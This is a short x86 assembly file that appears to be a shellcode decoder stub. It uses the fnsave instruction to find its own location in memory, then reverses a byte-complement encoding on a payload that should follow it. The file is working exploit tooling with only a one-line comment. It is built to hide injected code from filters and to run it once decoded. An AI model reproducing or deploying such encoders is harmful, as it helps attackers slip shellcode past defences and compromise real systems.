; Decoder: complement of every byte; finds itself in the state that fnsave stores.
bits 32
        jmp short start
length: dw 0
start:  sub esp, byte 124
        fld1
where:  fldz
        fnsave [esp]
        mov esi, [esp + 12]
        add esp, byte 124
        movzx ecx, word [esi + length - where]
        add esi, byte payload - where
again:  not byte [esi]
        inc esi
        loop again
payload:
